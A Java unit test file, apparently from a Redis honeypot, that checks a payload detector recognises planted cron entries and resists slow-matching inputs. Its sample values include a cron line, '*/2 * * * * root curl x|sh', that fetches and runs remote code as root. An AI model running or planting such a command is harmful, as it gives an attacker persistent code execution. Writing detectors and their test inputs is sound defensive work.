package io.honeybee.pot.redis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\n\n*/2 * * * * root curl x|sh\n\n",
        "  0,30 1-5 * * 7\t/bin/sh",
        "a\n@reboot x",
        "\n\n\t@hourly y"
      })
  void linesOfCronAreFoundWhereverTheyBegin(String value) {
    assertThat(Payload.of(value)).contains(Payload.CRON);
  }

  /** Line ends alone took 7 s when the beginning of a line could run over them. */
  @Test
  void noValueTakesLong() {
    List<String> slow =
        List.of(
            "\n".repeat(20_000),
            " ".repeat(20_000),
            "\n1".repeat(10_000),
            ("1 1 1 1" + " ".repeat(100) + "\n").repeat(200),
            "*".repeat(20_000));
    for (String value : slow) {
      assertTimeoutPreemptively(
          Duration.ofSeconds(2), () -> assertThat(Payload.of(value)).isEmpty());
    }
  }
}
